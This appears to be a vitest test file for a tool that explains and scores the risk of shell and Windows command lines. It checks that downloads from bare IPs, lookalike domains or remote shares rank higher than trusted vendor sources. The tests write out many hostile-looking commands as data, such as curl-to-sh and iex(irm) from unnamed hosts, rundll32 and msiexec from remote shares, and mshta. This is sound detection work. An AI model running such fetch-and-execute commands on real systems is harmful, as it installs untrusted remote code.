import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { explain } from "../pipeline/explain.ts";

const verdict = (commandLine: string, platform: "windows" | "linux" = "windows") =>
  explain({ commandLine, platform }, builtinCatalog()).explanation.verdict;

describe("what comes from another machine", () => {
  it("weighs more where that machine has no name", () => {
    const named = verdict("curl -s http://files.example.net/a | sh", "linux");
    const bare = verdict("curl -s http://203.0.113.7/a | sh", "linux");
    expect(bare.score).toBeGreaterThan(named.score);
    expect(bare.text).toContain("bare IP address");
    expect(verdict("curl -s 203.0.113.7:8080 | sh", "linux").score).toBe(bare.score);
    expect(verdict("curl -s 3405803783/a | sh", "linux").score).toBeGreaterThan(bare.score);
    const share = (server: string) => verdict(`rundll32 \\\\${server}\\s\\kiwi.dll,Go`);
    expect(share("3405803783").score).toBeGreaterThanOrEqual(share("203.0.113.7").score);
  });

  it("takes the drives of a remote session for those of a machine outside", () => {
    const outside = verdict("cmd /c copy \\\\tsclient\\c\\kit\\a.exe C:\\Users\\Public\\a.exe");
    const ofSite = verdict("cmd /c copy \\\\files02\\c\\kit\\a.exe C:\\Users\\Public\\a.exe");
    expect(outside.score).toBeGreaterThan(ofSite.score);
    expect(outside.text).not.toContain("of the site");
  });

  it("weighs less where it runs nothing by itself, unless the machine has no name", () => {
    const fetch = (host: string, name: string) =>
      verdict(`powershell Invoke-WebRequest -Uri https://${host}/${name} -OutFile ${name}`).score;
    expect(fetch("files.example.net", "a.zip")).toBeLessThan(fetch("files.example.net", "a.exe"));
    expect(fetch("files.example.net", "a.zip?x=.exe")).toBeLessThan(fetch("files.example.net", "a.exe?x=.zip"));
    expect(fetch("203.0.113.7", "a.zip")).toBe(fetch("203.0.113.7", "a.exe"));
  });

  it("weighs less where code only looks at what it is answered, or lays it down as data", () => {
    const level = (code: string) => verdict(`powershell -c "${code}"`).level;
    expect(level("Invoke-RestMethod https://api.example.net/v1/builds/latest")).toBe("low");
    expect(level("iwr https://pkg.example.net/feed/kiwi/4.2 -OutFile kiwi.zip")).toBe("low");
    expect(level("iwr https://pkg.example.net/feed/kiwi/4.2 -OutFile kiwi.exe")).toBe("medium");
    expect(level("iwr https://pkg.example.net/feed/kiwi/4.2 -OutFile $to")).toBe("medium");
    expect(level("iwr https://pkg.example.net/feed/kiwi.ps1")).toBe("medium");
    expect(level("iwr https://203.0.113.7/feed/kiwi/4.2")).toBe("high");
    expect(level("iex (irm https://api.example.net/v1/builds/latest)")).toBe("critical");
  });

  it("weighs less from a server of the site as well, where it runs nothing by itself", () => {
    const fetch = (name: string) => verdict(`bitsadmin /transfer j https://files02/${name} D:\\kit\\${name}`);
    expect(fetch("a.zip").level).toBe("low");
    expect(fetch("a.exe").level).toBe("medium");
  });

  it("weighs less where it is the source of a project that a forge keeps, and whole from elsewhere", () => {
    expect(verdict("pip install git+https://github.com/amy/k7.git").level).toBe("low");
    expect(verdict("pip install git+https://github.com.example.net/amy/k7.git").level).toBe("medium");
    expect(verdict("pip install git+https://203.0.113.7/k7.git").level).toBe("high");
    expect(verdict("pip install git+https://github.com/amy/k7.git https://files.example.net/k7.zip").level).toBe(
      "medium",
    );
  });

  it("weighs less where a project of a forge has released it, and half where it is laid down only", () => {
    const fetch = (address: string, then = "") =>
      verdict(`powershell -c "iwr ${address} -OutFile kettle.exe${then}"`).level;
    expect(fetch("https://github.com/hob/kettle/releases/download/v2/kettle-win64.exe")).toBe("low");
    expect(fetch("https://gitlab.com/hob/kettle/-/releases/v2/downloads/kettle-win64.exe")).toBe("low");
    expect(fetch("https://github.com/hob/kettle/releases/download/v2/setup.exe")).toBe("medium");
    expect(fetch("http://github.com/hob/kettle/releases/download/v2/kettle-win64.exe")).toBe("medium");
    expect(fetch("https://github.com/hob/kettle/raw/main/kettle-win64.exe")).toBe("medium");
    expect(fetch("https://github.example.net/hob/kettle/releases/download/v2/kettle-win64.exe")).toBe("medium");
    expect(fetch("https://github.com/hob/kettle/releases/download/v2/kettle.exe", "; .\\\\kettle.exe")).toBe("medium");
  });

  it("weighs less on a share by its full name, where those take it who roll out, unless the domain shows it outside", () => {
    const level = (line: string, parent?: string, domain?: string) => {
      const request = {
        commandLine: line,
        platform: "windows",
        ...(parent && { parent }),
        ...(domain && { domain }),
      } as const;
      return explain(request, builtinCatalog()).explanation.verdict.level;
    };
    const cmd = "C:\\Windows\\System32\\cmd.exe";
    const install = (host: string) => `msiexec /qn /i \\\\${host}\\agents\\kettle.msi`;
    expect(level(install("files02.example.net"), cmd)).toBe("low");
    expect(level(install("files02.example.net"), cmd, "example.net")).toBe("informational");
    expect(level(install("files02.example.net"), cmd, "example.org")).toBe("critical");
    expect(level(install("files02.example.net"))).toBe("low");
    expect(level(install("files02.example.net").replace("kettle", "x7q"))).toBe("medium");
    expect(level(install("files02.example.net"), "C:\\Windows\\System32\\mshta.exe")).toBe("high");
    expect(level(install("files02.example.net@SSL"), cmd)).toBe("critical");
    expect(level(install("203.0.113.7"), cmd)).toBe("critical");
    expect(level("rundll32 \\\\files02.example.net\\agents\\kettle.dll,Start", cmd)).toBe("medium");
  });

  it("weighs less where a ClickOnce application is published, on a server that says who it is", () => {
    const start = (address: string) => verdict(`rundll32.exe dfshim.dll,ShOpenVerbApplication ${address}`).level;
    expect(start("https://apps.example.net/till.application")).toBe("low");
    expect(start("http://apps.example.net/till.application")).toBe("high");
    expect(start("https://203.0.113.7/till.application")).not.toBe("low");
    expect(start("https://apps.example.net/till")).toBe("high");
  });

  it("weighs less where a host that is called after a product publishes a version of it", () => {
    const fetch = (address: string) => verdict(`powershell -c "iwr ${address} -OutFile kettle.msi"`).level;
    expect(fetch("https://get.kettle.example/kettle-4.5.2-x64.msi")).toBe("low");
    expect(fetch("https://files.example.net/kettle-4.5.2-x64.msi")).toBe("medium");
    expect(fetch("https://get.kettle.example/kettle.msi")).toBe("medium");
    expect(fetch("http://get.kettle.example/kettle-4.5.2-x64.msi")).toBe("medium");
  });

  it("is judged by its worst", () => {
    const both =
      "powershell iwr https://files.example.net/a.zip -OutFile a.zip; iwr https://files.example.net/a.exe -OutFile a.exe";
    expect(verdict(both).level).toBe("medium");
  });

  it("is ordinary from its maker, but not by what is never normal", () => {
    expect(verdict("msiexec /i https://nodejs.org/dist/v22.0.0/node-v22.0.0-x64.msi").level).toBe("informational");
    expect(verdict("msiexec /i https://www.kettle.example/dl/kettle-2.8.85-x64.msi").level).toBe("high");
    expect(verdict("msiexec /i https://www.kettle.example/dl/setup.msi").level).toBe("critical");
    expect(verdict("msiexec /i http://www.kettle.example/dl/kettle-2.8.85-x64.msi").level).toBe("critical");
    expect(verdict("msiexec /i https://nodejs.org.example.net/node.msi").level).toBe("critical");
    expect(verdict("mshta https://nodejs.org/a.hta").level).toBe("high");
  });

  it("is not the machine itself", () => {
    expect(verdict("powershell Invoke-WebRequest http://localhost:8080/health").text).not.toContain("from the web");
    expect(verdict("powershell Invoke-WebRequest http://localhost.example.net/a.exe -OutFile a.exe").level).toBe(
      "medium",
    );
  });
});

describe("the source of a project", () => {
  it.each([
    ["cargo install --git https://github.com/kiwi/kiwi", "cargo install --git https://files.example.net/kiwi"],
    ["npm install https://github.com/kiwi/kiwi/tarball/main", "npm install https://files.example.net/kiwi.tgz"],
    ["npx github:kiwi/kiwi", "npx https://files.example.net/kiwi.tgz"],
    ["pip install https://github.com/kiwi/kiwi/archive/main.zip", "pip install https://files.example.net/kiwi.zip"],
    [
      "kubectl apply -f https://raw.githubusercontent.com/kiwi/kiwi/v0.3.1/kiwi.yaml",
      "kubectl apply -f https://files.example.net/kiwi.yaml",
    ],
    [
      "dnf install -y https://mirrors.kiwi.example/free/kiwi-release-39.noarch.rpm",
      "dnf install -y https://mirrors.fig.example/free/kiwi-release-39.noarch.rpm",
    ],
  ])("is what a forge keeps, or a maker under his own name: %s", (known, unknown) => {
    expect(verdict(known, "linux").level).toMatch(/low|medium/);
    expect(verdict(known, "linux").score).toBeLessThan(verdict(unknown, "linux").score - 10);
  });

  it("is no script that is carried out as it is fetched, and on Windows no file of it", () => {
    expect(verdict("curl -s https://raw.githubusercontent.com/kiwi/kiwi/main/a.sh | sh", "linux").score).toBe(
      verdict("curl -s https://files.example.net/kiwi/kiwi/main/a.sh | sh", "linux").score,
    );
    expect(verdict("msiexec /i https://github.com/kiwi/kiwi/raw/main/a.msi", "windows").score).toBe(
      verdict("msiexec /i https://files.example.net/kiwi/kiwi/raw/main/a.msi", "windows").score,
    );
  });

  it("lies in no folder, though its name looks like one", () => {
    expect(verdict("npx github:kiwi/kiwi", "linux").text).toMatch(/takes this package from the web\.$/);
  });
});

it("is perhaps of a server of the site that hands out updates, at the port that these have", () => {
  const score = (port: string) =>
    verdict(
      `bitsadmin /transfer k http://wsus01.kiwi.example${port}/Content/A1/KB7.cab C:\\Updates\\KB7.cab`,
      "windows",
    ).score;
  expect(score(":8530")).toBe(score(""));
  expect(score(":8531")).toBeLessThan(40);
  expect(score(":4444")).toBeGreaterThan(60);
});

describe("what comes from where its maker publishes it", () => {
  const level = (line: string) => verdict(line, "linux").level;

  it("is ordinary where nothing else comes with it, from whoever the certificate names", () => {
    expect(level("curl -fsSL https://get.docker.com | sh")).toBe("informational");
    expect(level("curl -fsSLk https://get.docker.com | sh")).toBe("medium");
    expect(level("wget -qO- --no-check-certificate https://get.docker.com | sh")).toBe("medium");
    expect(level("curl -s https://get.docker.com https://files.example.net/a | sh")).toBe("medium");
    expect(level("curl -s https://files.example.net/a https://get.docker.com | sh")).toBe("medium");
  });

  it("is told of what is printed, and not of what goes to a file", () => {
    expect(level("curl -s http://203.0.113.5/a -o kiwi http://203.0.113.5/b | sh")).toBe("high");
    expect(verdict("curl -s http://203.0.113.5/a -o kiwi http://203.0.113.5/b | sh", "linux").text).toContain("5/b");
    expect(verdict("curl -s http://203.0.113.5/a -o kiwi | sh", "linux").text).not.toContain("carries out");
  });
});
